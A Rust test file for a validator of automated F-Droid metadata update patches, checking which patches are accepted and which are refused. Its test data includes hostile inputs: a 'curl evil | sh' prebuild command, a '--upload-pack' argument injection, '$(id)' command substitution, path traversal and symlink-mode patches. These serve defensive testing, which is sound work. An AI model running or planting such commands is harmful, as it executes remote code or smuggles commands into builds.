//! Which patches of checkupdates are taken.
#![allow(clippy::unwrap_used, reason = "helpers of tests may panic like the tests")]

mod common;

use fdroid_bb::fdroid::AppId;
use fdroid_bb::update::{BadPatch, LONGEST, Update, apply, check};

const PATH: &str = "metadata/org.example.app.yml";

const OLD: &str = "\
Categories:
  - System
  - Internet
License: MIT
SourceCode: https://example.org/app

AutoName: App

RepoType: git
Repo: https://example.org/app.git

Builds:
  - versionName: '1.0'
    versionCode: 1
    commit: v1.0
    subdir: app
    sudo:
      - apt-get update
      - apt-get install -y openjdk-11-jdk
    gradle:
      - yes

AutoUpdateMode: Version
UpdateCheckMode: Tags
CurrentVersion: '1.0'
CurrentVersionCode: 1
";

const BUILD: &str = "
  - versionName: '1.1'
    versionCode: 2
    commit: 0123456789abcdef0123456789abcdef01234567
    subdir: app
    sudo:
      - apt-get update
      - apt-get install -y openjdk-11-jdk
    gradle:
      - yes
";

fn id() -> AppId {
    AppId::new("org.example.app").unwrap()
}

/// `OLD` with changes, all of which must have an effect.
fn with(changes: &[(&str, &str)]) -> String {
    changes.iter().fold(OLD.to_owned(), |text, (old, new)| {
        assert!(text.contains(old), "{old}");
        text.replace(old, new)
    })
}

/// A good update, and more changes.
fn newer(build: &str, changes: &[(&str, &str)]) -> String {
    let text = with(&[
        ("CurrentVersion: '1.0'", "CurrentVersion: '1.1'"),
        ("CurrentVersionCode: 1", "CurrentVersionCode: 2"),
        ("\nAutoUpdateMode", &format!("{build}\nAutoUpdateMode")),
    ]);
    changes.iter().fold(text, |text, (old, new)| text.replace(old, new))
}

fn judged(new: &str) -> Result<Option<Update>, BadPatch> {
    check(&id(), OLD, new)
}

#[track_caller]
fn refused(new: &str, why: &str) {
    let BadPatch(message) = judged(new).unwrap_err();
    assert!(message.contains(why), "{message}");
}

fn title(new: &str) -> String {
    judged(new).unwrap().unwrap().title
}

/// As git writes it.
fn difference(old: &str, new: &str) -> String {
    let folder = tempfile::tempdir().unwrap();
    let git = |arguments: &[&str]| common::git(folder.path(), arguments);
    git(&["init", "-q"]);
    std::fs::create_dir(folder.path().join("metadata")).unwrap();
    let commit = |text: &str| {
        std::fs::write(folder.path().join(PATH), text).unwrap();
        git(&["add", "."]);
        git(&["-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-qm", "c"]);
    };
    commit(old);
    commit(new);
    git(&["diff", "--full-index", "--output=patch", "HEAD~", "HEAD"]);
    std::fs::read_to_string(folder.path().join("patch")).unwrap()
}

#[test]
fn what_checkupdates_does_is_taken() {
    assert_eq!(judged(OLD), Ok(None));
    assert_eq!(title(&newer(BUILD, &[])), "Update App to 1.1 (2)");
    let fewer = BUILD.replace("      - apt-get install -y openjdk-11-jdk\n", "");
    assert_eq!(title(&newer(&fewer, &[])), "Update App to 1.1 (2)");
    let none = fewer.replace("    sudo:\n      - apt-get update\n", "");
    assert_eq!(title(&newer(&none, &[])), "Update App to 1.1 (2)");
    let only = judged(&newer("", &[])).unwrap().unwrap();
    assert_eq!(only.title, "Update CurrentVersion of App to 1.1 (2)");
    assert!(only.needs_build);
    assert_eq!(title(&with(&[("AutoName: App", "AutoName: New")])), "Set autoname of New");
    // What `write_yaml` writes otherwise means the same.
    let other = newer(
        BUILD,
        &[
            ("  - System\n  - Internet", "  - Internet\n  - System"),
            ("    gradle:\n      - yes", "    gradle: yes"),
            ("    sudo:", "    novcheck: false\n    sudo:"),
        ],
    );
    assert_eq!(title(&other), "Update App to 1.1 (2)");
}

#[test]
fn a_version_that_waits_and_a_newer_one_come_together() {
    let next = BUILD.replace("versionCode: 2", "versionCode: 3").replace("1.1", "1.2");
    let both = newer(
        &format!("{BUILD}{next}"),
        &[
            ("CurrentVersionCode: 2", "CurrentVersionCode: 3"),
            ("CurrentVersion: '1.1'", "CurrentVersion: '1.2'"),
        ],
    );
    assert_eq!(title(&both), "Update App to 1.2 (3)");
}

#[test]
fn titles_hold_no_orders() {
    let hostile = "\"x\\\\n/approve @all ~label !1 #2 [ci skip] `$(id)` <b>\\u202e --force\"";
    let new = with(&[("AutoName: App", &format!("AutoName: {hostile}"))]);
    assert_eq!(title(&new), "Set autoname of x n approve all label 1 2 ci skip (id) b --force");
    refused(&with(&[("AutoName: App", "AutoName: \"a\\nb\"")]), "`AutoName` is not a single line");
    let long = format!("AutoName: {}", "x".repeat(501));
    refused(&with(&[("AutoName: App", &long)]), "`AutoName` is not a single line");
}

#[test]
fn other_changes_are_refused() {
    for (old, new, why) in [
        ("https://example.org/app.git", "https://example.org/evil.git", "changes `Repo`"),
        ("License: MIT", "License: None", "changes `License`"),
        ("UpdateCheckMode: Tags", "UpdateCheckMode: HTTP", "changes `UpdateCheckMode`"),
        ("AutoUpdateMode: Version", "AutoUpdateMode: None", "changes `AutoUpdateMode`"),
        ("RepoType: git", "RepoType: git\nBinaries: https://example.org/%v", "`Binaries`"),
        ("License: MIT", "License: MIT\nDisabled: no", "changes `Disabled`"),
        ("License: MIT", "License: MIT # no", "has a comment"),
        ("License: MIT", "License: MIT\nEvil: yes", "has `Evil`"),
        ("License: MIT", "License: &a MIT", "anchors"),
        ("License: MIT", "License: !!python/none MIT", "tag"),
        ("License: MIT", "License: MIT\nLicense: MIT", "stands twice"),
        ("    commit: v1.0", "    commit: v0.9", "changes the build 1"),
        ("    subdir: app\n", "", "changes the build 1"),
    ] {
        refused(&newer(BUILD, &[(old, new)]), why);
    }
    refused(&format!("{}---\nb: c\n", newer(BUILD, &[])), "second document");
    refused("", "changes");
    refused("- a\n", "mapping");
}

#[test]
fn builds_that_are_no_copies_are_refused() {
    for (old, new, why) in [
        ("    subdir: app", "    subdir: evil", "differs in `subdir`"),
        ("    gradle:", "    prebuild: curl evil | sh\n    gradle:", "differs in `prebuild`"),
        ("openjdk-11-jdk", "evil", "differs in `sudo`"),
        ("commit: 0123", "commit: --upload-pack=0123", "no commit or tag"),
        ("commit: 0123", "commit: a..b", "no commit or tag"),
        ("versionCode: 2", "versionCode: 1", "not that of `CurrentVersionCode`"),
        ("versionCode: 2", "versionCode: 3", "not that of `CurrentVersionCode`"),
        ("    subdir", "    disable: yes\n    subdir", "is disabled"),
        ("    subdir", "    evil: yes\n    subdir", "has `evil`"),
    ] {
        refused(&newer(&BUILD.replace(old, new), &[]), why);
    }
    refused(&newer(&format!("{BUILD}{}", BUILD.replace(": 2", ": 1")), &[]), "a second time");
    let back = with(&[("CurrentVersionCode: 1", "CurrentVersionCode: 0")]);
    refused(&back, "goes back");
    let name = with(&[("CurrentVersion: '1.0'", "CurrentVersion: '1.9'")]);
    refused(&name, "and not `CurrentVersionCode`");
    let asked = OLD.replace("AutoUpdateMode: Version", "AutoUpdateMode: None");
    let unasked = newer(BUILD, &[("AutoUpdateMode: Version", "AutoUpdateMode: None")]);
    let BadPatch(message) = check(&id(), &asked, &unasked).unwrap_err();
    assert!(message.contains("does not ask for"), "{message}");
}

#[test]
fn patches_of_git_give_what_git_would() {
    let new = newer(BUILD, &[]);
    for (old, new) in [
        (OLD, new.as_str()),
        (new.as_str(), OLD),
        (OLD, ""),
        ("", OLD),
        ("a\nb", "a\nb\n"),
        ("a\nb\n", "a\nb"),
        ("a\nb", "a\nc"),
        ("- a\n-- b\n", "+ a\n-- b\n++ c\n"),
        ("a\r\nb\r\n", "a\nb\r\n"),
    ] {
        assert_eq!(apply(&difference(old, new), PATH, old).as_deref(), Ok(new));
    }
    assert_eq!(apply("", PATH, OLD).as_deref(), Ok(OLD));
}

#[test]
fn hostile_patches_are_refused() {
    let good = difference(OLD, &newer(BUILD, &[]));
    let other = "diff --git a/.gitlab-ci.yml b/.gitlab-ci.yml\n";
    let cases = [
        (format!("{good}{other}"), "goes on with `diff --git a/.gitlab-ci.yml"),
        (format!("From 0123\nSubject: x\n\n{good}"), "begins with `From 0123`"),
        (good.replace("org.example.app", "org.example.other"), "is not of"),
        (good.replace("b/metadata", "b/metadata/../.."), "is not of"),
        (good.replace(" 100644", " 120000"), "more than the text"),
        (good.replace(" 100644", " 160000"), "more than the text"),
        (good.replacen("index ", "old mode 100644\nnew mode 100755\nindex ", 1), "`old mode"),
        (good.replacen("index ", "new file mode 120000\nindex ", 1), "`new file mode 120000`"),
        (good.replacen("index ", "deleted file mode 100644\nindex ", 1), "`deleted file"),
        (good.replacen("index ", "similarity index 90%\nindex ", 1), "`similarity"),
        (good.replacen("---", "GIT binary patch\n---", 1), "`GIT binary patch`"),
        (good.replacen("--- a/metadata/org.example.app.yml", "--- /dev/null", 1), "/dev/null"),
        (good.replace("AutoUpdateMode", "AutoUpdate"), "has changed since the check"),
        (good.lines().take(8).collect::<Vec<_>>().join("\n"), "ends in the middle"),
        (good.replacen("@@ -", "@@ -9", 1), "past the end"),
        (good.replacen("@@ -", "@@ --", 1), "goes on with"),
        ("x".repeat(LONGEST + 1), "at most"),
    ];
    for (patch, why) in cases {
        let BadPatch(message) = apply(&patch, PATH, OLD).unwrap_err();
        assert!(message.contains(why), "{why}: {message}");
    }
    // Whatever is cut off or doubled, nothing but a refusal or a text comes of it.
    for end in 0..good.len() {
        let _ = apply(&good[..end], PATH, OLD);
        let _ = apply(&format!("{}{}", &good[..end], &good), PATH, OLD);
    }
}
